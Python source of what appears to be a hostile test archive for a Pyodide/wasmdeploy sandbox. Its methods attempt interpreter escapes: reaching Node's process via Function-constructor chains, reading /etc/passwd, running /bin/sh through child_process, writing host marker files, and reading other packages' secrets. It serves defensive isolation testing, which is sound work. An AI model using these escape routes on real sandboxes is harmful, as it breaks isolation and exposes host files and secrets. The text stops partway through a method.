"""escape_kit: one method per way out of a wasmdeploy interpreter (hostile test archive).

Packaged into packages/archives/hostile/escapes.pt by packages/make_hostile.py. The archive is
untrusted code: every `try_<route>()` attempts one escape and returns

    {"route": "<route>", "got": <str evidence or None>, "error": <str or None>,
     "note": <str or None>, "ok": [<labels of the probes that got something>]}

and never raises (KeyboardInterrupt still propagates, so deadlines work). A route is made of
probes; "got" lists what the probes that succeeded obtained, one "label: value" line each,
with the raw evidence (the canary's value, file contents, a secret...). A probe that finds
nothing raises `Blocked` and ends up in "error". "note" says how to read the route (a spy was
installed, a promise is pending...).

Strings the kit looks for are assembled at run time, and its error messages replace the names
of other packages' modules with <target>, so that the kit's output holds another package's
names or data only if it really obtained them.
"""

import builtins
import gc
import os
import sys

_CANARY = "WASMDEPLOY_" + "CANARY"
_TARGET = "victim" + "_mod"  # the well-behaved package (victim.pt) the kit spies on
_TARGET_CLASS = "Victim" + "Model"
_SECRET_PREFIX = "VICTIM" + "-SECRET-"
_MARK_CMD = "echo wd-escape-$((40+2))"  # a shell prints wd-escape-42; the command text does not hold it
_MARK = "wd-escape-" + str(6 * 7)  # what a Python-side write puts in a host marker file
_REDACT = (_TARGET, _TARGET_CLASS)
_HOST_FILES = {  # files an escape writes on the host; the tests check they never appear
    "python_write": "/tmp/wasmdeploy_hostile_write",
    "os_system": "/tmp/wasmdeploy_hostile_system",
    "subprocess": "/tmp/wasmdeploy_hostile_subprocess",
    "fork": "/tmp/wasmdeploy_hostile_fork",
    "nodefs": "/tmp/wasmdeploy_hostile_nodefs",
    "js_fs": "/tmp/wasmdeploy_hostile_jsfs",
    "child_process": "/tmp/wasmdeploy_hostile_child",
    "worker": "/tmp/wasmdeploy_hostile_worker",
    "dynamic_import": "/tmp/wasmdeploy_hostile_dynimport",
}
_LIMIT = 6000

# Filled by JS callbacks (promises) after a call returned, and by the spies.
_ASYNC = []
_SPY = {"on": False, "profiler": None, "profile": [], "audit": [], "imports": [], "traffic": [], "installed": [], "undo": []}


class Blocked(Exception):
    """A probe found nothing: the object it looks for is absent, undefined or empty."""


# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------


def _redact(s):
    for name in _REDACT:
        s = s.replace(name, "<target>")
    return s


def _err(e):
    try:
        msg = str(e)
    except KeyboardInterrupt:
        raise
    except BaseException:
        msg = "<unprintable>"
    return _redact(f"{type(e).__name__}: {msg}")[:1000]


def _text(v, limit=_LIMIT):
    try:
        s = v if isinstance(v, str) else repr(v)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        s = f"<unprintable {type(v).__name__}: {_err(e)}>"
    return s if len(s) <= limit else s[:limit] + f"...[{len(s)} chars]"


def _result(route, got, errors, note=None, ok=None):
    return {
        "route": route,
        "got": "\n".join(got) if got else None,
        "error": "; ".join(errors) if errors else None,
        "note": note,
        "ok": list(ok or []),
    }


def _run(route, probes, note=None):
    """Runs (label, callable) probes; a callable returns evidence or raises (Blocked...)."""
    got, errors, ok = [], [], []
    for label, fn in probes:
        try:
            v = fn()
            if v is None:
                raise Blocked("nothing")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"{label}: {_err(e)}")
        else:
            got.append(f"{label}: {_text(v)}")
            ok.append(label)
    return _result(route, got, errors, note, ok)


def _route(fn):
    """Makes a try_* method total: a bug in the kit comes back as an error, never a raise."""
    route = fn.__name__[len("try_"):]

    def method(self, *args, **kwargs):
        try:
            return fn(self, *args, **kwargs)
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            return _result(route, None, [f"kit: {_err(e)}"])
        finally:
            _rearm_profiler()

    method.__name__ = fn.__name__
    method.__qualname__ = fn.__qualname__
    method.__doc__ = fn.__doc__
    return method


def _rearm_profiler():
    """Some routes (JS calling back into Python) drop sys.setprofile; a spy puts it back."""
    profiler = _SPY.get("profiler")
    if _SPY["on"] and profiler is not None and sys.getprofile() is None:
        sys.setprofile(profiler)


def _real_import():
    return builtins.__import__  # `builtins` is extern: the interpreter's real __import__


def _imp(name):
    """Imports `name` by whatever works: sys.modules, importlib, the real __import__, ours."""
    errors = []
    mod = sys.modules.get(name)
    if mod is not None:
        return mod
    try:
        import importlib

        return importlib.import_module(name)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        errors.append(f"importlib: {_err(e)}")
    for label, imp in (("builtins.__import__", _real_import()), ("package __import__", __import__)):
        try:
            mod = imp(name)
            for part in name.split(".")[1:]:
                mod = getattr(mod, part)
            return mod
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"{label}: {_err(e)}")
    distinct = []
    for e in errors:
        msg = e.split(": ", 1)[1]
        if msg not in distinct:
            distinct.append(msg)
    raise ImportError(f"cannot import {name} ({len(errors)} ways): " + " | ".join(distinct))


def _defined(v, what="value"):
    """Raises Blocked for None / JS undefined / JS null."""
    if v is None:
        raise Blocked(f"{what} is undefined")
    t = type(v).__name__
    if t in ("JsNull", "JsUndefined"):
        raise Blocked(f"{what} is {t}")
    try:
        if str(v) in ("undefined", "null") and "Js" in t:
            raise Blocked(f"{what} is {v}")
    except Blocked:
        raise
    except KeyboardInterrupt:
        raise
    except BaseException:
        pass
    return v


def _jsattr(obj, path):
    """obj.a.b.c on a JsProxy (or anything); Blocked if a step is missing/undefined."""
    cur = obj
    for part in path.split("."):
        cur = _defined(getattr(cur, part), part)
    return cur


def _intrinsics():
    """JS intrinsics reachable from any JsProxy, no `js` import needed."""
    ffi = _imp("pyodide.ffi")
    arr = ffi.to_js([1])
    Array = arr.constructor
    Function = Array.constructor
    Object = getattr(Array.prototype, "__proto__").constructor
    return ffi, Array, Function, Object


def _js_error_ctor():
    ffi, Array, Function, Object = _intrinsics()
    try:
        Array(-1)  # RangeError
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        js_error = getattr(e, "js_error", None)
        if js_error is None:
            raise
        return getattr(js_error.constructor, "__proto__")  # RangeError.__proto__ is Error
    raise Blocked("Array(-1) did not throw")


def _to_js_obj(d):
    ffi, Array, Function, Object = _intrinsics()
    return ffi.to_js(d, dict_converter=Object.fromEntries)


def _js_keys(obj):
    ffi, Array, Function, Object = _intrinsics()
    return list(Object.getOwnPropertyNames(obj).to_py())


def _globals_candidates():
    """(label, object) for every way to a JS global object we know."""
    out = []
    try:
        js = _imp("js")
        out.append(("import js", js))
        try:
            out.append(("js.globalThis", _jsattr(js, "globalThis")))
        except KeyboardInterrupt:
            raise
        except BaseException:
            pass
    except KeyboardInterrupt:
        raise
    except BaseException:
        pass
    for code in ("return globalThis", "return this"):
        try:
            out.append((f"Function({code!r})()", _defined(_intrinsics()[2](code)())))
        except KeyboardInterrupt:
            raise
        except BaseException:
            pass
    try:
        api = _pyodide_api()[1]
        out.append(("pyodide api config.jsglobals", _jsattr(api, "_api.config.jsglobals")))
    except KeyboardInterrupt:
        raise
    except BaseException:
        pass
    return out


def _pyodide_api():
    """(label, the Pyodide JS API object) by any route: pyodide_js, its _api leftover, jsfinder."""
    errors = []
    for label, get in (
        ("import pyodide_js", lambda: _imp("pyodide_js")),
        ("sys.modules['pyodide_js._api'].public_api", lambda: _jsattr(sys.modules["pyodide_js._api"], "public_api")),
        ("jsfinder.jsproxies['pyodide_js']", lambda: _imp("_pyodide._importhook").jsfinder.jsproxies["pyodide_js"]),
    ):
        try:
            api = _defined(get())
            _defined(getattr(api, "FS"), "FS")
            return label, api
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"{label}: {_err(e)}")
    raise Blocked("no Pyodide API: " + " | ".join(errors))


def _process():
    """(label, Node's process object) by any synchronous route."""
    errors = []
    for label, g in _globals_candidates():
        try:
            p = _defined(getattr(g, "process"), "process")
            _defined(getattr(p, "pid"), "process.pid")
            return f"{label}.process", p
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"{label}: {_err(e)}")
    try:
        p = _defined(_intrinsics()[2]("return process")())
        return "Function('return process')()", p
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        errors.append(f"Function('return process')(): {_err(e)}")
    try:
        bridge = _imp("wasmdeploy_bridge")
        p = _defined(bridge.call.constructor("return process")())
        return "wasmdeploy_bridge.call.constructor('return process')()", p
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        errors.append(f"bridge Function: {_err(e)}")
    raise Blocked("no process: " + " | ".join(errors))


def _proc_evidence(p):
    """What a reached process object gives away: pid and the canary."""
    env = getattr(p, "env", None)
    canary = getattr(env, _CANARY, None) if env is not None else None
    return f"process reached: pid={getattr(p, 'pid', '?')} canary={canary}"


def _require():
    """(label, a function name -> Node builtin module) by any synchronous route."""
    errors = []
    candidates = []
    for label, g in _globals_candidates():
        candidates.append((f"{label}.require", lambda g=g: getattr(g, "require")))
        candidates.append((f"{label}.module.require", lambda g=g: _jsattr(g, "module.require")))
    candidates.append(("Function('return require')()", lambda: _intrinsics()[2]("return require")()))
    try:
        plabel, proc = _process()
        candidates.append((f"{plabel}.getBuiltinModule", lambda: getattr(proc, "getBuiltinModule")))
        candidates.append((f"{plabel}.mainModule.require", lambda: _jsattr(proc, "mainModule.require")))
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        errors.append(f"process: {_err(e)}")
    for label, get in candidates:
        try:
            req = _defined(get(), label)
            os_mod = _defined(req("os"), "require('os')")
            _defined(getattr(os_mod, "hostname"), "os.hostname")
            return label, req
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"{label}: {_err(e)}")
    raise Blocked("no require: " + " | ".join(errors))


def _own_prefix():
    """This package's mangle prefix, e.g. '<torch_package_3>' (from our module name)."""
    name = __name__
    return name.split(".", 1)[0] if name.startswith("<torch_package_") else None


def _own_storage_prefix():
    return getattr(_own_importer(), "storage_prefix", None)


def _foreign_module_name(name):
    """True for a module name that belongs to another package (or is the target)."""
    if not isinstance(name, str):
        return False
    if _TARGET in name:
        return True
    own = _own_prefix()
    return name.startswith("<torch_package_") and own is not None and not name.startswith(own + ".")


def _describe_obj(o):
    """Evidence about an object of another package: type and interesting attributes."""
    t = type(o)
    parts = [f"{t.__module__}.{t.__qualname__}"]
    try:
        d = vars(o)
    except KeyboardInterrupt:
        raise
    except BaseException:
        d = {}
    for k, v in list(d.items())[:12]:
        parts.append(f"{k}={_text(v, 200)}")
    return " ".join(parts)


def _triggered_by_kit():
    """True when the kit's own code is on the stack above a spy: its own probes are not finds."""
    try:
        f = sys._getframe(2)
    except ValueError:  # shallow stack: nothing of ours above
        return False
    own = globals()
    while f is not None:
        if f.f_globals is own:
            return True
        f = f.f_back
    return False


def _scan_gc_for_target(limit=20):
    """Objects (instances, classes, modules) of other packages, and secret strings, via gc."""
    found = []
    seen_types = set()
    for o in gc.get_objects():
        if len(found) >= limit:
            break
        try:
            t = type(o)
            if isinstance(o, type(sys)):
                if _foreign_module_name(getattr(o, "__name__", "")):
                    found.append(f"module {o.__name__}")
                continue
            if isinstance(o, type):
                continue
            mod = getattr(t, "__module__", "") or ""
            if _foreign_module_name(mod) and id(t) not in seen_types:
                seen_types.add(id(t))
                found.append("instance " + _describe_obj(o))
                continue
            if isinstance(o, dict):
                for v in list(o.values())[:64]:
                    # len check: the kit's own needle (_SECRET_PREFIX in its globals) is not a find.
                    if isinstance(v, str) and v.startswith(_SECRET_PREFIX) and len(v) > len(_SECRET_PREFIX):
                        found.append(f"secret string in a dict: {v}")
                        break
        except KeyboardInterrupt:
            raise
        except BaseException:
            continue
    return found


def _bridge_call():
    bridge = _imp("wasmdeploy_bridge")
    return _defined(getattr(bridge, "call"), "wasmdeploy_bridge.call")


def _bridge_read(call, storage, numel):
    import json

    ffi = _imp("pyodide.ffi")
    body = json.dumps({"storage": storage, "dtype": "float32", "offset": 0, "numel": numel})
    reply = call("read", body, ffi.to_js([]))
    data = reply[1][0].to_bytes()
    import struct

    return list(struct.unpack(f"<{len(data) // 4}f", data[: len(data) // 4 * 4]))


def _wasm_module_bytes(imports_f=False, dylink=False):
    """A hand-made WebAssembly module exporting run() -> 42 (or calling env.f(41))."""

    def leb(n):
        out = bytearray()
        while True:
            b = n & 0x7F
            n >>= 7
            if n:
                out.append(b | 0x80)
            else:
                out.append(b)
                return bytes(out)

    def section(sid, payload):
        return bytes([sid]) + leb(len(payload)) + payload

    def name(s):
        return leb(len(s)) + s.encode()

    out = b"\0asm\x01\0\0\0"
    if dylink:  # an Emscripten side module ("dylink.0": mem info, all zero)
        mem_info = bytes([1]) + leb(4) + bytes([0, 0, 0, 0])
        out += section(0, name("dylink.0") + mem_info)
    if imports_f:
        types = leb(2) + bytes([0x60, 0, 1, 0x7F]) + bytes([0x60, 1, 0x7F, 1, 0x7F])
        out += section(1, types)
        out += section(2, leb(1) + name("env") + name("f") + bytes([0]) + leb(1))
        out += section(3, leb(1) + leb(0))
        export_index = 1
        body = bytes([0, 0x41]) + leb(41) + bytes([0x10]) + leb(0) + bytes([0x0B])
    else:
        out += section(1, leb(1) + bytes([0x60, 0, 1, 0x7F]))
        out += section(3, leb(1) + leb(0))
        export_index = 0
        body = bytes([0, 0x41]) + leb(42) + bytes([0x0B])
    export_name = "wd_answer" if dylink else "run"
    out += section(7, leb(1) + name(export_name) + bytes([0]) + leb(export_index))
    out += section(10, leb(1) + leb(len(body)) + body)
    return out


def _read_file(path, n=2000):
    with open(path, "rb") as f:
        data = f.read(n)
    return data.decode("utf-8", "replace")


def _js_then(promise, label):
    """Attaches callbacks recording a promise's outcome in _ASYNC (seen by try_collect_async_results)."""
    ffi = _imp("pyodide.ffi")

    def ok(v):
        try:
            _ASYNC.append(f"{label}: resolved: {_text(v, 2000)}")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _ASYNC.append(f"{label}: resolved (unprintable: {_err(e)})")

    def bad(e):
        try:
            err = getattr(e, "js_error", e)  # Pyodide hands JS errors over as JsException
            code = None
            try:
                cause = getattr(err, "cause", None)
                code = getattr(cause, "code", None) if cause is not None else None
                if code is None and cause is not None:
                    code = getattr(cause, "message", None)
                if code is None and cause is not None:
                    errs = getattr(cause, "errors", None)  # AggregateError (several addresses)
                    code = getattr(errs[0], "code", None) if errs is not None else None
            except KeyboardInterrupt:
                raise
            except BaseException:
                pass
            _ASYNC.append(f"{label}: rejected: {_text(e, 500)} cause={_text(code, 100)}")
        except KeyboardInterrupt:
            raise
        except BaseException as x:
            _ASYNC.append(f"{label}: rejected (unprintable: {_err(x)})")

    promise.then(ffi.create_once_callable(ok), ffi.create_once_callable(bad))
    return promise


# --------------------------------------------------------------------------------------------
# The kit
# --------------------------------------------------------------------------------------------


class EscapeKit:
    """Pickled at ("hostile", "escapes.pkl")."""

    def __init__(self, label):
        self.label = label

    def list_routes(self):
        """Every try_* method, in the order to call them.

        Spies first (they watch what follows), then the routes that leave the interpreter
        alone, then the collectors (run the victim step right before try_collect_spy_results),
        and last the routes that may crash the interpreter (os.system in a sandbox kills it,
        which would also wipe the spies).
        """
        names = [n for n in type(self).__dict__ if n.startswith("try_")]
        return sorted(names, key=lambda n: (_ORDER.get(n, 999), n))

    # ----- the JavaScript realm -----------------------------------------------------------
    @_route
    def try_import_dangerous_modules(self):
        """Which FFI / OS / runtime modules import, and by which route (informational)."""
        names = [
            "js", "pyodide_js", "pyodide", "pyodide.ffi", "pyodide.code", "pyodide.http", "_pyodide",
            "_pyodide_core", "ctypes", "_ctypes", "subprocess", "_posixsubprocess", "socket", "_socket",
            "ssl", "select", "mmap", "fcntl", "urllib.request", "http.client", "multiprocessing",
            "wasmdeploy_bridge", "wasmdeploy_runtime.host", "wasmdeploy_runtime.wire", "micropip",
        ]
        probes = [(f"import {n}", lambda n=n: f"{_text(_imp(n), 120)}") for n in names]
        return _run("import_dangerous_modules", probes, note="informational: importing is not an escape by itself")

    @_route
    def try_js_globals_dir(self):
        """Names on the JS global object that lead out of the interpreter."""
        dangerous = [
            "process", "require", "module", "exports", "Buffer", "fetch", "XMLHttpRequest", "WebSocket",
            "Worker", "importScripts", "__dirname", "__filename", "global", "Deno", "Bun", "navigator",
            "WebAssembly", "eval", "Function", "setTimeout", "SharedArrayBuffer", "postMessage", "pyodide",
        ]

        def probe(g):
            keys = set(_js_keys(g))
            for k in dangerous:  # non-enumerable or inherited ones too
                try:
                    if k not in keys and str(getattr(g, k)) not in ("undefined",):
                        keys.add(k)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass
            present = sorted(k for k in dangerous if k in keys)
            if not present:
                raise Blocked(f"none of the dangerous names among {len(keys)} globals")
            return f"{present} (of {len(keys)} global names)"

        probes = [(label, lambda g=g: probe(g)) for label, g in _globals_candidates()]
        if not probes:
            return _result("js_globals_dir", None, ["no JS global object reachable"])
        return _run("js_globals_dir", probes)

    @_route
    def try_js_process(self):
        """Node's process object: env canary, pid, argv, cwd."""

        def probe():
            label, p = _process()
            env = getattr(p, "env")
            canary = getattr(env, _CANARY, None)
            return f"via {label}: pid={p.pid} version={p.version} argv={_text(p.argv.to_py(), 300)} cwd={p.cwd()} canary={canary}"

        return _run("js_process", [("process", probe)])

    @_route
    def try_js_eval(self):
        """js.eval / globalThis.eval / Function on JS source that names process."""
        probes = []
        for label, g in _globals_candidates():
            probes.append((f"{label}.eval('process')", lambda g=g: _defined(g.eval("typeof process === 'undefined' ? undefined : process.env." + _CANARY + " || 'process reached, no canary'"))))
        probes.append(("Function('return process.env')()", lambda: _defined(_intrinsics()[2]("return typeof process === 'undefined' ? undefined : JSON.stringify(process.env)")())))
        return _run("js_eval", probes)

    @_route
    def try_run_js(self):
        """pyodide.code.run_js (it does `from js import eval`)."""
        code = _imp("pyodide.code")
        probes = [
            ("run_js(process.env canary)", lambda: _defined(code.run_js("process.env." + _CANARY))),
            ("run_js(typeof require)", lambda: _defined(code.run_js("typeof require === 'function' ? 'require is a function' : undefined"))),
        ]
        return _run("run_js", probes)

    @_route
    def try_function_constructor(self):
        """The realm's Function constructor, reached from JS objects of the `js` module."""
        probes = []
        for label, g in _globals_candidates():
            probes.append((f"{label}.Object.constructor('return process')()", lambda g=g: _proc_evidence(_defined(_jsattr(g, "Object").constructor("return process")()))))
        probes.append(("to_js([1]).constructor.constructor('return process')()", lambda: _proc_evidence(_defined(_intrinsics()[2]("return process")()))))
        probes.append(("Function('return globalThis')().process", lambda: _proc_evidence(_jsattr(_intrinsics()[2]("return globalThis")(), "process"))))
        return _run("function_constructor", probes)

    @_route
    def try_pyodide_ffi_to_js_constructor(self):
        """to_js(...) objects (no `js` needed) -> constructor.constructor -> process."""
        ffi = _imp("pyodide.ffi")

        def via(obj):
            return _proc_evidence(_defined(obj.constructor.constructor("return process")(), "process"))

        probes = [
            ("to_js([1])", lambda: via(ffi.to_js([1]))),
            ("to_js({'a': 1})", lambda: via(ffi.to_js({"a": 1}))),
            ("to_js(b'xy')", lambda: via(ffi.to_js(b"xy"))),
            ("to_js([1]).map", lambda: _proc_evidence(_defined(ffi.to_js([1]).map.constructor("return process")()))),
            ("JsException.js_error", lambda: via(getattr(_js_error_ctor(), "prototype"))),
        ]
        return _run("pyodide_ffi_to_js_constructor", probes)

    @_route
    def try_create_proxy_this(self):
        """create_proxy: a JS function made from Python; its constructor; `this` of a JS getter."""
        ffi = _imp("pyodide.ffi")

        def constructor_chain():
            p = ffi.create_proxy(lambda: 1)
            try:
                errors = []
                for label, get in (("constructor", lambda: p.constructor), ("constructor.constructor", lambda: p.constructor.constructor)):
                    try:
                        return _proc_evidence(_defined(get()("return process")(), "process"))
                    except KeyboardInterrupt:
                        raise
                    except BaseException as e:
                        errors.append(f"{label}: {_err(e)}")
                raise Blocked(" | ".join(errors))
            finally:
                p.destroy()

        def this_capture():
            _, Array, Function, Object = _intrinsics()
            captured = []
            getter = ffi.create_proxy(lambda this, *a: captured.append(this), capture_this=True)
            proto = Object.prototype
            prop = "__wd_probe"  # a string: no name mangling inside the class body
            Object.defineProperty(proto, prop, _to_js_obj({"get": getter, "configurable": True}))
            try:
                getattr(ffi.to_js([1]), prop)  # JS runs our getter with this = the array
            finally:
                delattr(proto, prop)
                getter.destroy()
            if not captured:
                raise Blocked("the getter never ran")
            return _proc_evidence(_defined(captured[0].constructor.constructor("return process")(), "process"))

        return _run("create_proxy_this", [("create_proxy(f).constructor", constructor_chain), ("Object.prototype getter this", this_capture)])

    @_route
    def try_error_prepare_stack_trace(self):
        """Error.prepareStackTrace: CallSite.getThis()/getFunction() of host frames."""
        ffi = _imp("pyodide.ffi")
        Error = _js_error_ctor()
        reached = []

        def pst(err, callsites):
            try:
                for cs in callsites:
                    for what in ("getThis", "getFunction"):
                        try:
                            v = getattr(cs, what)()
                        except KeyboardInterrupt:
                            raise
                        except BaseException:
                            continue
                        if v is None or type(v).__name__ in ("JsNull",) or str(v) == "undefined":
                            continue
                        try:
                            p = v.constructor.constructor("return process")() if what == "getThis" else v.constructor("return process")()
                            if p is not None and str(p) != "undefined":
                                reached.append(f"{what} of {cs.getFileName()}:{cs.getFunctionName()} -> process pid {p.pid}")
                        except KeyboardInterrupt:
                            raise
                        except BaseException:
                            pass
                        try:
                            proc = getattr(v, "process", None)
                            if proc is not None and str(proc) != "undefined":
                                reached.append(f"{what} of {cs.getFunctionName()} has .process (pid {proc.pid})")
                        except KeyboardInterrupt:
                            raise
                        except BaseException:
                            pass
            except KeyboardInterrupt:
                raise
            except BaseException:
                pass
            return "wd-stack"

        def probe():
            old = getattr(Error, "prepareStackTrace", None)
            hook = ffi.create_proxy(pst)
            Error.prepareStackTrace = hook
            try:
                try:
                    _intrinsics()[1](-1)
                except KeyboardInterrupt:
                    raise
                except BaseException as e:
                    js_error = getattr(e, "js_error", None)
                    if js_error is not None:
                        _ = js_error.stack
                try:
                    _label, api = _pyodide_api()
                    api.runPython("1/0")  # host-side JS frames around a Python error
                except KeyboardInterrupt:
                    raise
                except BaseException as e2:
                    js_error = getattr(e2, "js_error", None)
                    if js_error is not None:
                        _ = js_error.stack
            finally:
                Error.prepareStackTrace = old
                hook.destroy()
            if not reached:
                raise Blocked("no callsite led to process")
            return "; ".join(reached[:10])

        return _run("error_prepare_stack_trace", [("prepareStackTrace", probe)])

    @_route
    def try_wasm_imports(self):
        """Compile and instantiate hand-made WebAssembly (with a Python import) in the realm."""
        ffi = _imp("pyodide.ffi")
        f = ffi.create_proxy(lambda x: x + 1)
        wasm = _wasm_module_bytes(imports_f=True)

        def via_wasm_ns(ns):
            module = ns.Module.new(ffi.to_js(wasm))
            inst = ns.Instance.new(module, _to_js_obj({"env": _to_js_obj({"f": f})}))
            return f"instantiated a hand-made module; run() -> {inst.exports.run()}"

        probes = []
        for label, g in _globals_candidates():
            probes.append((f"{label}.WebAssembly", lambda g=g: via_wasm_ns(_jsattr(g, "WebAssembly"))))
        probes.append(("Function('return WebAssembly')()", lambda: via_wasm_ns(_defined(_intrinsics()[2]("return WebAssembly")()))))

        def via_emscripten():
            _label, api = _pyodide_api()
            m = _jsattr(api, "_module")
            lib = m.loadWebAssemblyModule(ffi.to_js(_wasm_module_bytes(dylink=True)), _to_js_obj({"loadAsync": False, "global": False, "nodelete": True}), "wd_hand.so", _to_js_obj({}), 0)
            return f"Emscripten loadWebAssemblyModule: wd_answer() -> {lib.wd_answer()}"

        probes.append(("pyodide api _module.loadWebAssemblyModule", via_emscripten))
        try:
            return _run("wasm_imports", probes)
        finally:
            f.destroy()

    @_route
    def try_dynamic_import(self):
        """import('node:...') from any eval path; the promise's outcome lands in _ASYNC."""
        code = (
            "return import('node:fs').then(fs => { fs.writeFileSync(%r, %r); return import('node:process'); })"
            ".then(p => 'dynamic import reached process, canary=' + p.env.%s)" % (_HOST_FILES["dynamic_import"], _MARK, _CANARY)
        )
        started = []

        def via_function():
            _js_then(_intrinsics()[2](code)(), "dynamic import via Function")
            started.append("Function")
            raise Blocked("promise pending")

        def via_globals():
            for label, g in _globals_candidates():
                try:
                    p = g.eval("(function(){" + code + "})()")
                    _js_then(p, f"dynamic import via {label}.eval")
                    started.append(label)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass
            raise Blocked("promise pending" if started else "no eval")

        res = _run("dynamic_import", [("Function(import())", via_function), ("globals eval(import())", via_globals)])
        res["got"] = "\n".join(x for x in _ASYNC if "dynamic import" in x and "resolved" in x) or None
        res["note"] = f"promises started: {started}; outcomes are reported by try_collect_async_results"
        return res

    @_route
    def try_fetch(self, port=39):
        """fetch / XMLHttpRequest / pyodide.http: outbound HTTP to 127.0.0.1:<port>.

        Not port 9: fetch refuses it (the Fetch standard's "bad ports") without connecting.
        """
        url = f"http://127.0.0.1:{port}/"
        started = []

        def via_globals():
            for label, g in _globals_candidates():
                try:
                    _js_then(_defined(getattr(g, "fetch"))(url), f"fetch via {label}")
                    started.append(label)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass
            raise Blocked("promise pending" if started else "no fetch")

        def via_pyfetch():
            http = _imp("pyodide.http")
            coro = http.pyfetch(url)
            try:
                coro.send(None)
            except StopIteration as s:
                return f"pyfetch returned {s.value}"
            finally:
                try:
                    coro.close()
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass
            raise Blocked("pyfetch suspended (awaiting a JS promise)")

        def via_open_url():
            http = _imp("pyodide.http")
            return http.open_url(url).read()[:200]

        res = _run("fetch", [("fetch", via_globals), ("pyodide.http.pyfetch", via_pyfetch), ("pyodide.http.open_url", via_open_url)])
        res["note"] = f"requests started via {started}; a rejection whose cause is ECONNREFUSED means the network was reached (try_collect_async_results)"
        return res

    @_route
    def try_require(self):
        """require / module.require / process.getBuiltinModule / mainModule.require."""

        def probe():
            label, req = _require()
            os_mod = req("os")
            return f"via {label}: os.hostname()={os_mod.hostname()} os.userInfo().username={os_mod.userInfo().username}"

        def js_fs():
            label, req = _require()
            fs = req("fs")
            fs.writeFileSync(_HOST_FILES["js_fs"], _MARK)
            return f"wrote on host via {label}('fs'): {_HOST_FILES['js_fs']}; /etc/passwd: {fs.readFileSync('/etc/passwd', 'utf8')[:300]}"

        return _run("require", [("require('os')", probe), ("require('fs')", js_fs)])

    @_route
    def try_process_binding(self):
        """process.binding / _linkedBinding / dlopen: Node internals and native addons."""

        def binding(name):
            def probe():
                _label, p = _process()
                b = _defined(p.binding(name), f"binding({name})")
                return f"process.binding({name!r}) keys: {_text(_js_keys(b)[:20], 400)}"

            return probe

        def linked():
            _label, p = _process()
            return _defined(p._linkedBinding("node_fs"), "_linkedBinding")

        def dlopen():
            _label, p = _process()
            return f"process.dlopen is {_defined(p.dlopen)}"

        return _run("process_binding", [("binding('fs')", binding("fs")), ("binding('spawn_sync')", binding("spawn_sync")), ("_linkedBinding", linked), ("dlopen", dlopen)])

    @_route
    def try_worker_threads(self):
        """worker_threads.Worker with eval'd code (writes a host marker file)."""

        def probe():
            label, req = _require()
            wt = req("worker_threads")
            code = f"require('fs').writeFileSync({_HOST_FILES['worker']!r}, {_MARK!r})"
            w = wt.Worker.new(code, _to_js_obj({"eval": True}))
            return f"started a Worker via {label} (threadId {w.threadId})"

        def global_worker():
            for label, g in _globals_candidates():
                W = getattr(g, "Worker", None)
                if W is not None and str(W) != "undefined":
                    return f"{label}.Worker is {W}"
            raise Blocked("no Worker global")

        return _run("worker_threads", [("require('worker_threads')", probe), ("global Worker", global_worker)])

    @_route
    def try_js_child_process(self):
        """child_process.execFileSync through any require route."""

        def probe():
            label, req = _require()
            cp = req("child_process")
            args = _imp("pyodide.ffi").to_js(["-c", f"{_MARK_CMD} | tee {_HOST_FILES['child_process']}"])
            out = cp.execFileSync("/bin/sh", args, _to_js_obj({"encoding": "utf8"}))
            return f"via {label}: {str(out).strip()}"

        return _run("js_child_process", [("child_process", probe)])

    @_route
    def try_registered_bridge(self):
        """wasmdeploy_bridge (a registered JS module): its constructor chain and siblings."""

        def ctor():
            call = _bridge_call()
            return _proc_evidence(_defined(call.constructor("return process")(), "process"))

        def module_attrs():
            bridge = _imp("wasmdeploy_bridge")
            keys = [k for k in _js_keys(bridge) if k != "call"]
            if not keys:
                raise Blocked("only .call")
            return keys

        def jsfinder():
            jsp = dict(_imp("_pyodide._importhook").jsfinder.jsproxies)
            extra = sorted(k for k in jsp if k not in ("js", "wasmdeploy_bridge"))
            for k in ("js",):
                if k in jsp:
                    try:
                        _defined(getattr(jsp[k], "process"))
                        extra.append("js has process")
                    except KeyboardInterrupt:
                        raise
                    except BaseException:
                        pass
            if not extra:
                raise Blocked(f"jsproxies: {sorted(jsp)}")
            return extra

        return _run("registered_bridge", [("bridge.call.constructor('return process')()", ctor), ("bridge module attributes", module_attrs), ("jsfinder.jsproxies", jsfinder)])

    @_route
    def try_bridge_foreign_storages(self, max_pkg=12, max_transient=200):
        """Engine storages of other packages ("p<N>/<key>") and transient tensors ("t<N>") read through the bridge."""
        call = _bridge_call()
        own = _own_storage_prefix()
        found = []
        errors = []
        ids = [f"p{n}/{k}" for n in range(max_pkg) for k in range(3)] + [f"t{n}" for n in range(1, max_transient + 1)]
        for sid in ids:
            if own and sid.startswith(str(own) + "/"):
                continue
            try:
                vals = _bridge_read(call, sid, 1)
                try:
                    vals = _bridge_read(call, sid, 3)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass
                found.append(f"{sid}={vals}")
            except KeyboardInterrupt:
                raise
            except BaseException as e:
                if len(errors) < 3:
                    errors.append(f"{sid}: {_err(e)}")
        note = f"own storage prefix {own!r}; tried {len(ids)} ids"
        return _result("bridge_foreign_storages", found, errors, note, [f.split("=", 1)[0] for f in found])

    # ----- Pyodide's API and the file system ----------------------------------------------------
    @_route
    def try_pyodide_js_api(self):
        """The Pyodide API object (pyodide_js, or what is left of it): what can it do?"""

        def probe():
            label, api = _pyodide_api()
            keys = set(_js_keys(api))
